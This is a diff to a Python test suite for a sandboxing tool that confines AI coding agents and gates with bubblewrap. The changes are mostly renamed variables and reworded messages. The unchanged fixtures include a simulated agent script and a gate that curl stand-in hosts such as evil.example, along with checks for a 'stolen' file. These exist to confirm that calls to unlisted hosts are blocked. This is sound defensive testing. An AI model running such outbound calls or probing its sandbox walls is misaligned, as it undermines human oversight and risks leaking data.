@@ -1,4 +1,4 @@
-"""The tier `bubblewrap` by the installed command: what agents and gates cannot do, and that it is not done without."""
+"""The tier `bubblewrap` with the installed command: what agents and gates cannot do, and that it is required."""
 
 import json
 import os
@@ -62,26 +62,26 @@ def missing(folder: Path, project: Project) -> str:
     return str(programs)
 
 
-def test_the_doctor_tells_which_tier_is_in_force(project: Project) -> None:
-    told = project.shiftwork("doctor", **{TIER: "none"}).stdout
-    assert "warn  sandbox     none, as the settings ask: agents and gates run with your rights" in told
-    assert f"try: {TIER}=auto shiftwork doctor" in told
+def test_the_doctor_reports_which_tier_is_in_force(project: Project) -> None:
+    message = project.shiftwork("doctor", **{TIER: "none"}).stdout
+    assert "warn  sandbox     none, as the settings ask: agents and gates run with your rights" in message
+    assert f"try: {TIER}=auto shiftwork doctor" in message
     for asked in ("auto", "bubblewrap"):
         confined = project.shiftwork("doctor", "--json", **{TIER: asked})
         assert confined.returncode == 0, confined
-        (check,) = (one for one in json.loads(confined.stdout)["checks"] if one["name"] == "sandbox")
+        (check,) = (item for item in json.loads(confined.stdout)["checks"] if item["name"] == "sandbox")
         assert (check["state"], check["detail"].split(":")[0]) == ("ok", "bubblewrap")
         assert (check["asked"], check["tier"], check["reason"]) == (asked, "bubblewrap", "")
 
 
-NO_SANDBOX = "no sandbox: agents and gates run with your rights, because bubblewrap makes no sandbox here"
+NO_SANDBOX = "no sandbox: agents and gates run with your rights, because bubblewrap cannot create a sandbox here"
 
 
 def test_auto_without_bubblewrap_works_and_says_so_in_one_line(project: Project, tmp_path: Path) -> None:
     auto = {TIER: "auto", "PATH": broken(tmp_path, project)}
     examined = project.shiftwork("doctor", "--json", **auto)
     assert examined.returncode == 0, examined
-    (check,) = (one for one in json.loads(examined.stdout)["checks"] if one["name"] == "sandbox")
+    (check,) = (item for item in json.loads(examined.stdout)["checks"] if item["name"] == "sandbox")
     assert (check["state"], check["asked"], check["tier"]) == ("warn", "auto", "none")
     assert "uid map: Permission denied" in check["reason"]
     assert "kernel.unprivileged_userns_clone" in check["hint"]
@@ -91,8 +91,8 @@ def test_auto_without_bubblewrap_works_and_says_so_in_one_line(project: Project,
         f"{NO_SANDBOX}: bwrap: setting up uid map: Permission denied; shiftwork doctor says what to do"
     ]
     events = [json.loads(line) for line in project.shiftwork("run", "Again", "--json", **auto).stdout.splitlines()]
-    (told,) = (event for event in events if event["event"] == "sandbox")
-    assert (told["tier"], told["note"].startswith(NO_SANDBOX)) == ("none", True)
+    (message,) = (event for event in events if event["event"] == "sandbox")
+    assert (message["tier"], message["note"].startswith(NO_SANDBOX)) == ("none", True)
 
 
 def test_none_is_not_remarked_on(project: Project) -> None:
@@ -118,12 +118,12 @@ def test_the_demo_works_with_the_sandbox_and_without(project: Project, tmp_path:
     assert "sandbox" not in played.stdout
     if tier == "auto":
         absent = "no sandbox: agents and gates run with your rights, because the program bwrap is not installed"
-        for path, told in ((broken(tmp_path, project), NO_SANDBOX), (missing(tmp_path, project), absent)):
+        for path, message in ((broken(tmp_path, project), NO_SANDBOX), (missing(tmp_path, project), absent)):
             without = project.shiftwork("demo", **{TIER: tier, "PATH": path})
             assert without.returncode == 0, without.stdout + without.stderr
-            assert without.stdout.count(told) == 1
+            assert without.stdout.count(message) == 1
         refused = project.shiftwork("demo", **{TIER: "podman"})
-        assert (refused.returncode, "podman is not built yet" in refused.stderr) == (64, True)
+        assert (refused.returncode, "podman is not supported yet" in refused.stderr) == (64, True)
 
 
 LISTED = """\
@@ -134,10 +134,10 @@ gates = { hosts = ["127.0.0.1:1"] }
 """
 
 
-def test_the_doctor_tells_which_hosts_are_called(project: Project) -> None:
+def test_the_doctor_reports_which_hosts_are_called(project: Project) -> None:
     settings(project.root, LISTED)
-    told = project.shiftwork("doctor", "--json")
-    (check,) = (one for one in json.loads(told.stdout)["checks"] if one["name"] == "sandbox")
+    completed = project.shiftwork("doctor", "--json")
+    (check,) = (item for item in json.loads(completed.stdout)["checks"] if item["name"] == "sandbox")
     assert check["state"] == "ok"
     calls = "; command calls api.example.com, *.example.org alone; gates call 127.0.0.1:1 alone; "
     assert calls in check["detail"]
@@ -155,7 +155,7 @@ def test_an_agent_without_listed_hosts_keeps_the_network_and_one_line_says_so(pr
     notes = [event["note"] for event in map(json.loads, again) if event.get("event") == "network"]
     assert [note.partition(":")[0] for note in notes] == [KEEPS]
     examined = json.loads(project.shiftwork("doctor", "--json").stdout)["checks"]
-    (check,) = (one for one in examined if one["name"] == "network")
+    (check,) = (item for item in examined if item["name"] == "network")
     assert (check["state"], check["detail"]) == ("warn", notes[0])
     file = project.root / "shiftwork.toml"
     file.write_text(file.read_text().replace("[agent]\n", '[agent]\nhosts = ["api.example.com"]\n'))
@@ -169,7 +169,7 @@ if [ "$SHIFTWORK_STEP_TYPE" = coding ]; then curl -sS http://evil.example/ > see
 {WORKING}"""
 
 
-def test_neither_agent_nor_gate_call_who_is_not_listed_and_that_is_told(project: Project) -> None:
+def test_neither_agent_nor_gate_call_who_is_not_listed_and_that_is_reported(project: Project) -> None:
     project.settle(agent=CALLS, gates='test = "! test -f hello.txt || curl -sSf http://other.example/"')
     settings(project.root, f"{LISTED}[limits]\nrepairs = 0\n")
     ran = project.shiftwork("run", "Say hello")
@@ -184,7 +184,7 @@ def test_where_it_cannot_be_had_nothing_is_run_without(project: Project, tmp_pat
     path = broken(tmp_path, project)
     examined = project.shiftwork("doctor", PATH=path)
     assert examined.returncode == 1
-    assert "fail  sandbox     bubblewrap makes no sandbox here" in examined.stdout
+    assert "fail  sandbox     bubblewrap cannot create a sandbox here" in examined.stdout
     refused = project.shiftwork("run", "Say hello", PATH=path)
     assert refused.returncode == 64, refused
     assert "setting up uid map: Permission denied" in refused.stderr
@@ -194,10 +194,10 @@ def test_where_it_cannot_be_had_nothing_is_run_without(project: Project, tmp_pat
     assert document["error"]["kind"] == "sandbox"
 
 
-def test_a_tier_that_is_not_built_is_told_as_such(project: Project) -> None:
+def test_a_tier_that_is_not_built_is_reported_as_such(project: Project) -> None:
     refused = project.shiftwork("run", "Say hello", **{TIER: "podman"})
     assert refused.returncode == 64
-    assert "podman is not built yet" in refused.stderr
+    assert "podman is not supported yet" in refused.stderr
 
 
 def prying(project: Project) -> str:
@@ -314,5 +314,5 @@ def test_a_run_with_a_real_agent_within_walls(
     assert handover.proved()[-1] == handover.git("rev-parse", "main^{tree}")
     assert handover.prompts()["step-005"].count("greetings are in lower case") == 1, "its tools work within walls"
     assert not (handover.repo / "stolen").exists()
-    results = [one.last_tool_result for one in scripted_model.requests("model") if one.last_tool_result]
-    assert any("Read-only file system" in told and "start" in told for told in results), results
+    results = [item.last_tool_result for item in scripted_model.requests("model") if item.last_tool_result]
+    assert any("Read-only file system" in message and "start" in message for message in results), results
